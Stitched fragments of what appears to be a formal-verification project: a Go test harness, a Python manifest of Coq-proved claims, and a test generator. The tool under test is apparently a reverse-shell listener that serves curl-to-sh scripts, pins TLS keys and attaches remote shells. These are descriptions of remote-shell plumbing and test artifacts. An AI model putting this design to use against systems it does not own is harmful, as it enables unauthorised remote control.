				if err := os.WriteFile(p, unhex(sm["c"]), 0600); nil != err {
					res["setup_error"] = err.Error()
				}
				srcs = append(srcs, p)
			case "again": /* a source already given, given again */
				if of := num(sm["of"]); of < len(srcs) {
					srcs = append(srcs, srcs[of])
				}
			case "missing":
				srcs = append(srcs, filepath.Join(root, fmt.Sprintf("missing%d", k)))
			case "fifo":
				p := filepath.Join(root, fmt.Sprintf("fifo%d", k))
				syscall.Mkfifo(p, 0600)
				srcs = append(srcs, p)
			}
		}

		/* The environment's verdicts: path.Match for every pattern and name. */
		var mt [][]any
		for _, p := range pats {
			_, berr := path.Match(p, "")
			for _, nm := range names {
				ok, merr := path.Match(p, nm)
				mt = append(mt, []any{hx([]byte(p)), hx([]byte(nm)), ok, nil != berr || nil != merr})
			}
			if 0 == len(names) {
				mt = append(mt, []any{hx([]byte(p)), "", false, nil != berr})
			}
		}
		res["match"] = mt

		/* Run it, twice. */
		var (
			got, got2   []byte
			err1, err2  error
			pan         any
		)
		func() {
			defer func() { pan = recover() }()
			got, err1 = conv.From(srcs...)
			got2, err2 = conv.From(srcs...)
		}()
		switch {
		case nil != pan:
			res["r"] = "panic"
			res["msg"] = fmt.Sprint(pan)
		case nil != err1:
			res["r"] = "err"
			res["cls"] = errClass(err1)
			res["msg"] = strings.ReplaceAll(err1.Error(), base, "$T")
		default:
			res["r"] = "ok"
			res["out"] = hx(got)
		}
		res["det"] = bytes.Equal(got, got2) && (nil == err1) == (nil == err2)
		emit(res)
	})
}
