"""Source of MANIFEST.json (bin/mkmanifest)."""
HOOK_COMMITS = ["5bd405e"]
NOTES = ("See DESIGN.md. Every check = static Coq theorems (full make, Print Assumptions re-run per check) + correspondence of the "
         "hand-written Coq model with /repo's current working tree, judged inside Coq by vm_compute; a broken obligation or "
         "correspondence triggers a search for a concrete failing input (the property's monitor evaluated on the implementation's observations).")
TB = "Trusted: Coq 8.16.1 kernel + vm_compute (no native_compute, no axioms: Print Assumptions 'Closed under the global context'); "
CLAIMED = {
 "C15": {"text": "Coq theorems over the model of lib/uu (round trip, decoder totality/no panic, append shape, both Max*Len bounds, output alphabet) "
                 "for all inputs; model tied to the code by byte-exact correspondence on ~7000 generated cases per quick run judged inside Coq, "
                 "plus real perl pack/unpack on a sample. Purity (no writes to src / existing dst) is observed in canary arenas, not proved.",
         "note": TB + "hand-written model Model/UU.v tied by correspondence; Go slice semantics not modelled; perl 5.36 = 'Perl'.",
         "technique": "Coq proof (induction + finite sweeps) over a hand model + differential correspondence judged by vm_compute"},
 "C18": {"text": "Coq theorem: for EVERY payload the generated text lexes (POSIX word-lexer model that rejects every unquoted special character) to the "
                 "header, one `echo` with exactly one literal word per row equal to the row, and the closing brace (quote safety, unbounded); rows = "
                 "sorted distinct formatted TABDOC cells + self row by construction of the model. Model tied to GenFuncList byte-for-byte on ~500 "
                 "hostile payloads per quick run; dash and bash run a sample (test).",
         "note": TB + "ShLex is our reading of POSIX quoting (validated on dash/bash samples); tabwriter modelled for one column without TAB/VT/FF/0xFF.",
         "technique": "Coq proof (induction on the row bytes through a lexer automaton) + differential correspondence judged by vm_compute"},
 "C16": {"text": "Coq theorems (all scripts, all names without a quote): the text perl receives from the generated wrapper - modelled as shell "
                 "single-quote value -> q{...} brace matching -> y/sb/\\47\\134/ -> unpack u - equals the cleaned script; the cleaned script is the trimmed "
                 "script with exactly the leading comment run blanked, line count preserved; the embedded payload never contains quote, backslash or "
                 "brace. Model tied to FromPerl byte-for-byte on ~900 generated scripts per quick run, judged in Coq. Behavioural equivalence (stdout, "
                 "exit status under dash/bash vs perl directly) is a differential TEST on generated programs, not a proof: partial for that clause.",
         "note": TB + "receiving side (sh quoting, perl q{}, y///, unpack, perl -d/PERL5DB evaluation order) is modelled, validated by runs of real perl/dash/bash; "
                 "known findings: empty script, raw CR LF inside a literal.",
         "technique": "Coq proof (lexer/decoder composition lemmas over the uu round-trip theorem) + differential correspondence judged by vm_compute + perl/sh differential test"},
 "C17": {"text": "Coq model of Converter.From (glob per sorted pattern, sort, compact, dot/stat/regular tests, first-matching filter, newline "
                 "insertion, single file, several sources, list function) parameterised by path.Match verdicts; theorems for every table/listing: "
                 "first-matching-filter, single unmatched file unchanged, sources concatenated in order, dot-names/directories/specials inert, parts "
                 "newline-terminated. PARTIAL: the full statement from_dir = spec_dir (exactly the eligible files in name order) is stated in Coq "
                 "and evaluated by the judge on every harness case (500 real temp trees per quick run incl. dangling links, fifos, overlapping and "
                 "malformed patterns) but its general proof is not finished.",
         "note": TB + "path.Match/fs.Glob/Stat are environment (their verdicts are case inputs); model tied by byte-exact correspondence on real trees.",
         "technique": "Coq proof over a hand model (partial) + differential correspondence and statement-level monitor judged by vm_compute"},
}
NOT_CLAIMED = {}
