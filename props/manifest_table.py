"""Source of MANIFEST.json (bin/mkmanifest)."""
HOOK_COMMITS = ["5bd405e"]
NOTES = ("See DESIGN.md. Every check = static Coq theorems (full make, Print Assumptions re-run per check) + correspondence of the "
         "hand-written Coq model with /repo's current working tree, judged inside Coq by vm_compute; a broken obligation or "
         "correspondence triggers a search for a concrete failing input (the property's monitor evaluated on the implementation's observations). "
         "Tables the models take from the source are regenerated from the working tree on every run by small translators and compared by per-run Coq obligations: "
         "printf call graph (C10), lock shape of the Ctrl+O handler (C19), open flags of the -log file (C11), mux routing table (C09, C06), event watcher "
         "actions (C12, C04), chain of callback-address sources (C07), order of rmain's start-up steps and abrupt exits (C20).")
TB = "Trusted: Coq 8.16.1 kernel + vm_compute (no native_compute, no axioms: Print Assumptions 'Closed under the global context'); "
CLAIMED = {
 "C15": {"text": "Coq theorems over the model of lib/uu (round trip, decoder totality/no panic, append shape, both Max*Len bounds, output alphabet, "
                 "and c15_perl_compatible: encode = an independent bit-regrouping specification of Perl's pack('u') for every byte string) "
                 "for all inputs; model tied to the code by byte-exact correspondence on ~7000 generated cases per quick run judged inside Coq, "
                 "plus real perl pack/unpack on a sample. Purity (no writes to src / existing dst) is observed in canary arenas, not proved.",
         "note": TB + "hand-written model Model/UU.v tied by correspondence; Go slice semantics not modelled; perl 5.36 = 'Perl'.",
         "technique": "Coq proof (induction + finite sweeps) over a hand model + differential correspondence judged by vm_compute"},
 "C18": {"text": "Coq theorem: for EVERY payload the generated text lexes (POSIX word-lexer model that rejects every unquoted special character) to the "
                 "header, one `echo` with exactly one literal word per row equal to the row, and the closing brace (quote safety, unbounded); rows are "
                 "characterised for every payload: rows = compact(sort(formatted cells)) where cells = self row + one per TABDOC line (c18_rows_spec), "
                 "membership, strict byte order (one row per DISTINCT line), independence of order and multiplicity of the tagged lines. Model tied to GenFuncList byte-for-byte on ~500 "
                 "hostile payloads per quick run; dash and bash run a sample (test).",
         "note": TB + "ShLex is our reading of POSIX quoting (validated on dash/bash samples); tabwriter modelled for one column without TAB/VT/FF/0xFF.",
         "technique": "Coq proof (induction on the row bytes through a lexer automaton) + differential correspondence judged by vm_compute"},
 "C16": {"text": "Coq theorems (all scripts, all names without a quote): the text perl receives from the generated wrapper - modelled as shell "
                 "single-quote value -> q{...} brace matching -> y/sb/\\47\\134/ -> unpack u - equals the cleaned script; the cleaned script is the trimmed "
                 "script with exactly the leading comment run blanked, line count preserved; the embedded payload never contains quote, backslash or "
                 "brace. Model tied to FromPerl byte-for-byte on ~900 generated scripts per quick run, judged in Coq. Behavioural equivalence (stdout, "
                 "exit status under dash/bash vs perl directly) is a differential TEST on generated programs, not a proof: partial for that clause.",
         "note": TB + "receiving side (sh quoting, perl q{}, y///, unpack, perl -d/PERL5DB evaluation order) is modelled, validated by runs of real perl/dash/bash; "
                 "known findings: empty script, raw CR LF inside a literal.",
         "technique": "Coq proof (lexer/decoder composition lemmas over the uu round-trip theorem) + differential correspondence judged by vm_compute + perl/sh differential test"},
 "C17": {"text": "Coq theorems for every listing with distinct names and every filter table (path.Match verdicts are parameters; only 'a pattern without "
                 "meta characters matches exactly itself' is assumed): c17_dir_is_spec - the directory payload IS the statement's own description "
                 "(exactly the eligible entries: regular after following links, matched, not dot-files; in lexicographic name order; each converted by "
                 "the first matching filter and newline-terminated) - proved through strict-sortedness and uniqueness of the compacted name list; "
                 "c17_ineligible_inert - two directories with the same eligible entries give the same result (sub-directories, non-matching names, "
                 "dot-files incl. dangling ones, special files are inert); first-matching filter, unmatched single file unchanged, sources concatenated "
                 "in order. Tie: 500 real temp trees per quick run (dangling links, fifos, overlapping / malformed / no-meta patterns, list function) "
                 "compared byte-exactly with the model and judged against spec_dir in Coq.",
         "note": TB + "path.Match/fs.Glob/Stat are environment (their verdicts are case inputs); model tied by byte-exact correspondence on real trees.",
         "technique": "Coq proof (refinement of the glob/sort/compact pipeline to the specification via order-theoretic uniqueness) + differential correspondence judged by vm_compute"},
}

BRK = ("Model = Model/Broker.v (admission and release sections of Broker.connect as atomic steps, both proxy loops at line/read granularity, "
       "shutdown bookkeeping). Tie: every quick run executes thousands of operation histories on the REAL Broker inside testing/synctest "
       "with connect's critical sections serialised through the verif hook, and compares, step by step, operator notices, log records, events, "
       "writer calls, returns - judged in Coq - and evaluates the property's monitor on the implementation's trace. ")
CLAIMED.update({
 "C01": {"text": "Coq theorems over EVERY operation history (induction over the op list, invariants Inv and Tab): slots hold streams of the right "
                 "direction with non-empty key and the SAME key when both are held; busy streams are exactly the slot holders; the admission "
                 "decision is characterised exactly (accepts); a refused attempt changes nothing but its own bookkeeping, returns at once, gets no "
                 "write, raises no event and is announced+logged unless shutting down; input is written only to the input-slot holder and output "
                 "displayed only from the output-slot holder. " + BRK + "Exhaustive small scope (depth 4) + 400 random histories per quick run; "
                 "HTTP surface: pairs of real HTTPS requests /i/{a}, /o/{b} on a real Server with IDs differing only by what a careless normalisation "
                 "would erase, outcome predicted by running the broker model on the percent-decoded path elements (theorem c01_http_pairing: the second "
                 "request attaches iff the decoded elements are the same bytes); refused /o requests sent as curl -T- sends them (Expect: 100-continue) must be "
                 "answered at once; refusals arriving while a flood has filled the operator's queue must still be announced once the terminal catches up.",
         "note": TB + "sync.Mutex atomicity, ConstantTimeCompare = byte equality, unguessable /io sentinel are assumptions; net/http's mux decodes the {id} element.",
         "technique": "Coq proof (state invariants by induction over operation lists) + hook-serialised differential correspondence judged by vm_compute"},
 "C06": {"text": "Coq theorem over EVERY operation history: if both slots are held and one holder is a half of /io request r, the other is a half "
                 "of the same request (corollary of the same-key invariant; keys of different requests differ). " + BRK + "All 24 admission orders "
                 "of two requests on 4 base states, 480 of the 1440 orders of three requests, random mixed histories; plus a stress TEST with "
                 "really concurrent ConnectInOut calls, staggered arrivals (requests that come and go between the arrivals of others), two simultaneous "
                 "/io requests from ONE client address on a real Server (48 rounds), also under Go's race detector (catches data races on the key counter, which the serialised harness cannot).",
         "note": TB + "per-request key distinctness relies on Go's atomic counter (assumption; exercised by the stress test).",
         "technique": "Coq proof (invariant) + exhaustive admission-order correspondence judged by vm_compute + concurrent stress test"},
 "C04": {"text": "Coq theorems: a release cancels the peer, whose proxy (if running) has ended and logged its closure in the same step; exactly one "
                 "'gone' notice + disconnected event in the step emptying the last slot, after which key and slots are as at start; ready notice "
                 "exactly when an accepted stream finds the other slot held; in every reachable idle state any non-empty key is accepted (re-arm, "
                 "unbounded number of shells); Do may return only when shut down with both slots empty. " + BRK + "PARTIAL for 'nothing keeps "
                 "running': observed (goroutine dump after all transports closed, incl. flood with a stalled terminal; notice totals once the terminal "
                 "is drained), not proved. A real-scheduler shutdown-race test covers callers queued on the broker's mutex (stalled refusal notice "
                 "inside the admission section, shutdown and a late attempt behind it): once Do has returned nothing is attached. Over the fine-grained "
                 "proxyOut model: in ANY state, once cancelled, the reader goroutine and the forwarding loop can each leave within two of their own steps; "
                 "the pre-repair reader is refuted (stuck for ever after flood + stall + cancel). Last hop: the closure / gone notices reach the TERMINAL "
                 "through the real Shell also while the operator has muted a flood. Event fan-out (events.go) has models of its own: Model/Events.v - what a listener "
                 "receives is exactly the events processed while it is registered, whatever other listeners do, incl. periods with none at all (refinement to a "
                 "one-listener specification; a pump that stops when nobody listens is refuted); Model/EventsCap.v - listeners with channels of any capacity reading at "
                 "any pace never miss an event (invariant; a best-effort pump is refuted). Tied by listeners which come and go on the real Broker (0-1500 shells "
                 "unheard, channels of 1024 / 2 / 1 read late), judged in Coq. At the HTTP level: half-attached shells which end leave the listener as freshly started, "
                 "with and without -one-shell.",
         "note": TB + "goroutine/channel behaviour of proxyOut's reader is exercised, not modelled.",
         "technique": "Coq proof (invariants + per-step characterisations) + hook-serialised correspondence judged by vm_compute + leak observation"},
 "C02": {"text": "Coq theorems for every queue, writer kind and failure point: lines written (each + exactly one newline) followed by lines still "
                 "queued = the queued lines in order (gap-free, duplicate-free, unmodified; undelivered lines stay for the next shell); only the "
                 "last written line can lack its delivery record and only because its own write/flush failed and ended the shell; writes go only "
                 "to the input-slot holder. " + BRK + "Exhaustive writer scripts (4 kinds x failure points), select-race cases, random histories. "
                 "'Promptly' = the flush is called after every write before the next line is taken (observed on every case). Operator side (lib/opshell, "
                 "upstream of the broker): the real Shell.insert (Ctrl+I) with sources up to 100000 B must put exactly ONE intact line on the line channel; "
                 "pastes of up to 3000 lines through the real Shell.Do into a full 1024-deep channel must come out complete and in order.",
         "note": TB + "net/http's FlushError pushing bytes to the socket is outside; Go's select choice is explored, not modelled.",
         "technique": "Coq proof (induction over the delivery loop) + correspondence with scripted writers judged by vm_compute"},
 "C03": {"text": "Coq theorems: a read of the attached output stream is displayed exactly once, unmodified, before any closure notice of the step "
                 "(also when returned together with the terminal error) and nothing else is ever displayed (broker model, unbounded operator channel). "
                 "Over a FINE-GRAINED model of proxyOut (reader goroutine, internal queue of 2, forwarding loop with both selects, operator channel of "
                 "any capacity drained at the terminal's pace, cancellation anywhere; every event sequence): shown ++ waiting is always a chunk-wise "
                 "prefix of what was read; a stream that ends by itself while attached has everything read before the end handed to the operator "
                 "channel before proxyOut returns (so before the close notice); queues bounded. That model is tied to the code by replaying the "
                 "stalled-terminal cases (capacity 1-3, scripted drains) on it: chunks logged/shown per block and the reader's run-ahead must agree. Last hop (lib/opshell, Model/Terminal.v): theorem - "
                 "however a byte sequence is cut into reads, the terminal is written that sequence with LF rendered CR LF (x/term, raw mode; proved "
                 "lossless); tied by 200 chunkings of UTF-8 / non-UTF-8 / control bytes through the real Shell with its output captured, also with the whole "
                 "Shell.Do running and a real SIGWINCH after every chunk; read scripts include runs of 99-250 zero-length reads; harness readers use their buffer as "
                 "scratch space while waiting (a lingering reader of an earlier shell must not share memory with the attached one). Output after a mute (Ctrl+O) has "
                 "ended is shown again, also for the first mute of a session (real Shell, virtual time). The REAL BINARY on a pty with a real TLS shell sending "
                 "numbered lines: read fast, slowly, and with the tty switched to non-blocking by another holder and stalled - what the terminal shows is a prefix "
                 "of what was sent. " + BRK,
         "note": TB + "relative speeds are explored as orders inside synctest, not proved over a queue model.",
         "technique": "Coq proof (invariants over all interleavings of a fine-grained concurrent model + coarse broker model) + read-script and stalled-terminal replay correspondence judged by vm_compute"},
 "C11": {"text": "Coq theorems: input 'Shell I/O' records = lines written, in order, minus at most the failing last one; each displayed chunk has "
                 "exactly one record with the same bytes; a refused attempt outside shutdown has exactly one error record. " + BRK + "Records are "
                 "captured through a mirror of the real slog.NewJSONHandler(w, nil) (level filtering as in the program); the monitor also checks "
                 "connect/disconnect records per stream and that the JSON output is one parsable object per line. PARTIAL: reconstruction of a "
                 "whole session from the log is checked by the monitor, not proved. Stalled-terminal and cancelled-flood cases: nothing undelivered is logged "
                 "(theorem c11_queue_logged_is_delivered over the fine-grained proxyOut model, every interleaving); attempts whose client has already hung up "
                 "(request context done before admission) still get their records. The log FILE: Model/LogFile.v - with O_APPEND the file is what was there "
                 "followed by every record written through an open description, in write order, for any number of successive or overlapping runs (theorem; without "
                 "O_APPEND refuted); the flags are read off the working tree by translator/openflags on every run (per-run obligation: append mode, O_CREATE, "
                 "owner-only). The real binary runs twice on one -log file with failing TLS handshakes and lines of 10-3000 characters: every line of the file is "
                 "JSON, every entered line has its exact record.",
         "note": TB + "slog's JSON escaping is standard library (framing checked, escaping not modelled).",
         "technique": "Coq proof (per-step characterisations, append-mode file model) + open-flags translator obligation + correspondence with a mirrored JSON handler and the real log file judged by vm_compute"},
})
CLAIMED["C19"] = {"text": "Coq theorems over the mute machine for EVERY timed event list: status lines always written; without Ctrl+O nothing "
                 "is ever dropped; muting starts only with Ctrl+O; output is dropped iff muted at that instant; while muted the timer is armed for "
                 "exactly pause after the last Ctrl+O / dropped output (invariant of all reachable states), so muting ends by itself exactly then, "
                 "announced, with no input needed; closed-form muted interval; repeated Ctrl+O changes nothing; pause = 2000 ms (checked against the "
                 "source on every run); and over a model of the locking around Ctrl+O (terminal lock held by goxterm during the handler, Shell.wL, any "
                 "number of writers): the repaired code never dead-locks, the unrepaired handler is refuted. Tie: the REAL opshell.New shell (timer callback, ^O handler, writePlain, handleOutput) is replayed inside "
                 "testing/synctest as a pty child on the exhaustive gap grid {0,1,500,1999,2000,2001} ms to depth 3 plus random ms schedules "
                 "(~6600 per quick run, incl. backlogs queued in the 1024-deep operator channel while the terminal is busy), compared per instant with "
                 "the model and with the statement's monitor, in Coq; plus Ctrl+O as a REAL key press through goxterm's key handling (which holds the "
                 "terminal's lock) while output is being written - forced unlucky schedule and free floods - after which the mute must be announced and "
                 "a status line written (this found a genuine dead-lock, repaired by fix: 3f1e604); Ctrl+J printouts while muted; a real-time case with "
                 "the write lock held across the timer's due time.",
         "note": TB + "virtual clock of synctest = model clock; goxterm rendering is outside; lock order is exercised by the key-press stream, not modelled.",
         "technique": "Coq proof (invariant + closed-form case analysis with lia) + virtual-time differential correspondence judged by vm_compute"}
CLAIMED["C10"] = {"text": "Coq theorems: with a constant format of plain verbs (one operand per verb) the output is the literal text with every operand "
                 "inserted whole, for ALL operand bytes (render = weave; each operand occurs verbatim); in a well-formed call-site program no format "
                 "is computed at run time and every format reaching any printf-style function through any wrapper chain is such a constant. The "
                 "'every call site in the tree' half is re-decided on EVERY run: translator/fmtgraph type-checks /repo's working tree (go/types), "
                 "emits all ~160 call sites of fmt.*f, log.*f and the module's own (format, ...any) wrappers incl. closures as Coq data, and coqc "
                 "proves prog_wf sites = true by vm_compute. Failing-input search and validation of the translator: hostile IDs through the real "
                 "broker and hostile paths/queries/c2/Host (incl. invalid punycode labels)/zoned client addresses through the real mux and handlers; "
                 "every notice must show the client text verbatim - on the operator channel and, through the real Shell, on the terminal.",
         "note": TB + "fmt's behaviour on constant plain-verb formats as in Lib/Fmt.render (stdlib); translator trusted (cross-checked by the notice streams).",
         "technique": "model regenerated from source by a translator + reflective Coq obligation (vm_compute) + soundness theorems; dynamic notice checks as search"}
CLAIMED["C09"] = {"text": "Coq theorem for EVERY decoded request path (any bytes): the path the file handler opens under the root is '/' or a sequence of "
                 "elements none of which is empty, '.', '..' or contains '/', i.e. lexically inside the tree (path.Clean's contract, model validated "
                 "against the real path.Clean on 1500 hostile paths per run). PARTIAL: that the mux, FileServer and http.Dir apply exactly this, that "
                 "shell endpoints win over files, unset => 404 and single file => that file (status 200 for every path that reaches the handlers; the mux's "
                 "own 301 for a non-canonical escaped path is modelled and its correspondence checked) is exercised, not proved: ~170 raw request lines "
                 "(incl. half-closing clients and cancelled request contexts, which must still be reported) over "
                 "real TLS x 3 modes (tagged tree files named like the endpoints, canaries just outside incl. a sibling extending the root's name; "
                 "plain/encoded/double-encoded dot segments, encoded slashes/backslashes, NUL, 5000-byte and 40-level paths, POST/PUT to endpoints) "
                 "judged in Coq against the cleaned-path model (content only of the file the cleaned path names; never a canary; notices free of raw control "
                 "bytes that decode to the request's path); overlapping downloads of a 3 MiB file by 12 clients must each return exactly the file.",
         "note": TB + "net/http parser, ServeMux, FileServer, http.Dir are standard library (modelled by their contract); symlinks out of the tree are followed by design.",
         "technique": "Coq proof (lexical confinement of the cleaned path) + canary-based differential test judged by vm_compute"}
CLAIMED["C07"] = {"text": "Coq theorems: the callback address is chosen by the stated precedence (one theorem per branch, together total); with the default "
                 "template both curl commands are built from the same (pin, address, ID); broken/missing/failing templates and undeterminable addresses "
                 "give an error status without script; IDs are non-empty, [0-9a-z] only, and injective in the 64-bit random number. Tie: ~105 requests "
                 "per quick run against the real Server (direct handler calls with crafted Host/SNI/c2 in query, POST form and header; raw HTTP/1.0 "
                 "over TLS; listen port 443; a template file edited, broken, removed and re-created between requests, also with size and mtime unchanged), "
                 "response compared in Coq with "
                 "(also 160 requests served concurrently, IDs pairwise distinct, and the same under Go's race detector) "
                 "the model script for the ID found. PARTIAL for 'yields a working shell': the served script is piped to /bin/sh with real curl and a "
                 "command round-trips (behavioural test).",
         "note": TB + "text/template engine, idna.ToASCII (verdict taken from the real library), math/rand, curl, sh are environment.",
         "technique": "Coq proof (case analysis, base-36 round trip) + differential correspondence judged by vm_compute + end-to-end script run"}
CLAIMED["C05"] = {"text": "Coq theorems (data flow / formatting): the pin position of every one-liner holds exactly the listener's fingerprint string, both curls "
                 "of every script carry it, base64 is injective and decodable (another string of the shape is another 32-byte value), user ports kept / "
                 "bound port appended. PARTIAL for 'equals the hash of the key really served': on every run, for 12 configurations (6 listen forms, "
                 "callback-address sets, fresh/cached/full-chain/regenerated-underneath/expired caches, restarts, help re-printed after a shell died) a TLS client "
                 "records the leaf it is shown and Coq itself computes base64(SHA-256(SubjectPublicKeyInfo)) (Gallina SHA-256, vm_compute) and compares it "
                 "with every advertised pin - incl. 72 scripts fetched CONCURRENTLY per configuration, and the one-liners made from the listen address itself "
                 "(bound port).",
         "note": TB + "TLS presents Certificates[0]; SHA-256 collision resistance; curl's pin check (exercised in C07's run) are assumptions.",
         "technique": "Coq proof of the formatting/data-flow half + in-Coq recomputation of the pin of the observed key (validation by computation)"}
CLAIMED["C12"] = {"text": "Coq theorems: for every sequence of broker events the listener is open iff not (-one-shell and a connected event was handled); the "
                 "connected event occurs exactly at full attachment (broker theorem), so refused and half-attached attempts never close it; no help is "
                 "re-offered under -one-shell; exit status 0 for ErrOneShellClosed/EOF. PARTIAL: that Close makes the kernel refuse connections 'shortly' "
                 "and that the attached shell is undisturbed is exercised: a real Server is probed with connect(2) at every stage of 12 scenarios "
                 "(/i+/o in both orders, /io; preceded by half-attached and refused attempts; traffic after the close; Do must return ErrOneShellClosed by itself); "
                 "end to end: 11 runs of the real binary with -one-shell under a pty with a real TLS /io client, one shell attached for 33 s (thorough 95 s) "
                 "and still working; endings by EOF, dropped connection, input side first with the upload left open, and EOF followed by a Tab insert of a "
                 "1500-line source; then ONE entered line must give exit status 0 (known finding: a line entered within the ~0.5 s in which "
                 "http.Server.Shutdown polls after a long-lived shell is consumed; the next line exits).",
         "note": TB + "net.Listener.Close / http.Server.Shutdown semantics are net/http's; real-time polling (up to 3 s) for 'refused'.",
         "technique": "Coq proof (watcher logic composed with the broker invariants) + real-socket scenario test judged by vm_compute"}
CLAIMED["C13"] = {"text": "Coq theorems: with a fingerprint configured a request is sent IFF it decodes (base64, CR/LF ignored, optional sha256//) to exactly 32 "
                 "bytes and SOME presented certificate's SubjectPublicKeyInfo has that SHA-256 (full equality, any chain position); malformed => refused "
                 "outright; the pin a listener advertises parses to its key's hash (SHA-256 output length/byte range proved through the Gallina "
                 "implementation, base64 round trip); without a fingerprint ordinary validation decides; the decision is a function of the call's own "
                 "arguments (no state). Tie: 120 calls per quick run in ONE process against 8 TLS servers with generated keys and 1-3 certificate "
                 "chains, 14 fingerprint spellings, trusted and untrusted leaves; Coq recomputes SHA-256/base64 of the presented keys and predicts "
                 "whether the handler may run; directed sequences per server (TLS session resumption) and overlapping calls (a second call runs to completion "
                 "between the first's client configuration and its connect), each judged on its own configuration; impostor servers presenting the genuine "
                 "certificate's name and serial with another key, called with the genuine pin right after the genuine server; "
                 "calls through a forwarding proxy (HTTPS_PROXY, CONNECT) to a C2 named c2.example; servers which answer 302 to an https server with another key; "
                 "http.DefaultClient/DefaultTransport compared with their initial state after every call. PARTIAL for the "
                 "TLS mechanics (handshake, VerifyConnection ordering): environment.",
         "note": TB + "crypto/tls handshake and x509 validation are the library's; SHA-256 collision resistance assumed.",
         "technique": "Coq proof (iff characterisation, codec round trips, hash output shape) + differential correspondence with in-Coq hashing judged by vm_compute"}
CLAIMED["C14"] = {"text": "Coq theorem over a transition-system model of CmdShell.Go (child writing to two kernel pipes and exiting, two copiers, close of the "
                 "output stream only after both copiers saw EOF, reaping afterwards) for EVERY amount of output, chunking, pipe capacity and "
                 "interleaving: when the stream reports EOF the reader has been handed, per descriptor and in order, exactly what was written; what "
                 "is handed over is always a prefix of it; the pre-repair protocol (reaper closes the read ends at child exit) is refuted by a "
                 "witness; no run can get stuck: from every state an explicit continuation ends the stream with everything delivered "
                 "(c14_every_run_can_complete). PARTIAL: kernel pipes / os/exec / io.Pipe are modelled by contract; the tie is a stress run with real perl children "
                 "(bursts up to three pipe buffers, early exit, deaths by signal, stdout closed before stderr, idle open stdin, readers from 100 B to 64 KiB with pauses) "
                 "judged in Coq by splitting the stream per descriptor. Timing is real: one-sided.",
         "note": TB + "os/exec.Cmd.Wait, kernel pipe and io.Pipe semantics are assumptions of the model; liveness (the stream does end) is observed, not proved.",
         "technique": "Coq proof (invariant over all schedules of a small concurrent model) + stress correspondence with real children judged by vm_compute"}
CLAIMED["C08"] = {"text": "Coq theorems (for every parser satisfying load_ok): over every history of starts, crashes during the write and damage without deletion, "
                 "every successful start serves the pair of the run that created the file and the file keeps stemming from it (never rewritten); with a "
                 "file present nothing is written and only the original pair or an error results; a missing file is regenerated with the run's own pair; "
                 "0600/0700 are owner-only. PARTIAL: load_ok (a cut or damaged file either still yields the original MATCHING pair or is an error other "
                 "than not-exist) is a hypothesis about txtar/PEM/x509, CHECKED on every run on the real parsers by enumerating EVERY prefix length of a "
                 "real cache file (~815 crash points), 400 single-byte corruptions in every region, restart/delete/no-cache histories (also on a cache whose "
                 "certificate has expired; runs that OVERLAP in time: real listeners kept up while the cache is deleted and other runs start, each must keep "
                 "presenting the key it started with) and 0-4 nested "
                 "not-yet-existing directories, with key identity, key/certificate match, file bytes+mtime and permission bits observed.",
         "note": TB + "crash = constructed prefix (no process is killed mid-write); umask 022; mode literals checked in the source per run.",
         "technique": "Coq proof under an explicit parser hypothesis + exhaustive crash-point / corruption enumeration judged by vm_compute"}
CLAIMED["C20"] = {"text": "Coq theorems over the control-flow model of rmain for every configuration, fault set and way of ending: never Panic; on every exit "
                 "the terminal is not left raw (no log.Fatalf after MakeRaw: every later way out is a return, so the deferred cleanup runs); the first "
                 "start-up step that cannot succeed gives a non-zero status naming that cause; otherwise status 0; -print-default-template succeeds "
                 "under every fault; -print-ctrl-i depends only on the log file and the Ctrl+I source. PARTIAL: tie = the real binary run in 56 "
                 "scenarios (every single fault, pairs, informational flags x three terminal situations incl. a controlling pty with stdin from "
                 "/dev/null and no controlling terminal; exits by Ctrl+D, Ctrl+C and stdin EOF, also after sessions with 80 served scripts under GOGC=1; a "
                 "Ctrl+I source directory with a dangling link) with exit status, panic text, cause and termios "
                 "before/after compared with the model in Coq.",
         "note": TB + "goxterm.MakeRaw/Restore, the flag package's -h, and OS error wording are environment.",
         "technique": "Coq proof (total case analysis of the start-up sequence) + real-binary pty scenarios judged by vm_compute"}
NOT_CLAIMED = {}
