"""C17 - the Ctrl+I payload is exactly the eligible files, converted, in name order."""
import json
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.Conv Judge.Common Judge.C17."
CLAUSES = {1: "Converter.From panicked", 2: "two calls on unchanged files returned different results",
           3: "payload is not exactly the eligible files (regular, matching, not dot-files) converted by the first matching filter, in name order, "
              "newline-terminated - or the conversion failed although only ineligible entries could be blamed",
           10: "model/implementation differ on Converter.From"}
NAMES = [b"a.sh", b"b.pl", b"c.subr", b"A.sh", b"a b.sh", b"z.sh", b"x.txt", b"README", b".hidden.sh", b".#a.sh", b"#a.sh#", b"a.sh~",
         b"a.tar.sh", b"[x].sh", b"st*r.sh", b"q?.sh", b"sub", b"lib_one.sh", b"lib_two.sh", b"noext", b"\xc3\xa9.sh", b"a.PL", b".sh", b".pl",
         b"m.sh.bak", b"lib_three.pl", b"0.sh", b"~.sh", b"tool.pl", b"tab_list.sh", b".config", b"Makefile"]
CONTENTS = [b"f() { :; }\n", b"g() { echo g; }", b"", b"\n", b"# TABDOC: f does f\nf() { :; }\n", b"#!/usr/bin/perl\n# TABDOC: p perl thing\nprint 1;\n",
            b"print 'x';", b"no newline at end", b"two\nlines\n", b"# TABDOC: it's quoted\n"]
DEFAULT = {b"*.pl": "perl", b"*.sh": "shell", b"*.subr": "shell"}
EXTRA = [(b"lib_*", "tag1"), (b"*.txt", "tag2"), (b"*", "tag3"), (b"a.sh", "tag4"), (b"[a-c]*.sh", "tag5"), (b"*.sh", "empty"), (b"*.sh", "fail"),
         (b"*.pl", "delete"), (b"*.sh", "delete"), (b"?.sh", "tag6"), (b"README", "tag7"), (b"*.s[hu]*", "tag8"), (b"[", "tag9"), (b"\\*.sh", "tag0"),
         (b"sub", "tag1"), (b".#a.sh", "tag2"), (b"*.subr", "delete"), (b"lib_*.sh", "shell")]


def gen_dir(rng, hostile):
    entries, used = [], set()
    for _ in range(rng.choice([0, 1, 2, 3, 5, 8, 12, 20, 30])):
        n = rng.choice(NAMES) if rng.randrange(5) else bytes(rng.choice(b"abz._-#~ *?[]") for _ in range(rng.randrange(1, 7))) + rng.choice([b".sh", b".pl", b"", b".x"])
        if n in used or n in (b".", b"..") or b"/" in n or b"\x00" in n:
            continue
        used.add(n)
        dot = n.startswith(b".")
        r = rng.randrange(100)
        if r < 62:
            k = "reg"
        elif r < 72:
            k = "dir"
        elif r < 80:
            k = "linkreg"
        elif r < 85:
            k = "linkdir"
        elif r < 92:
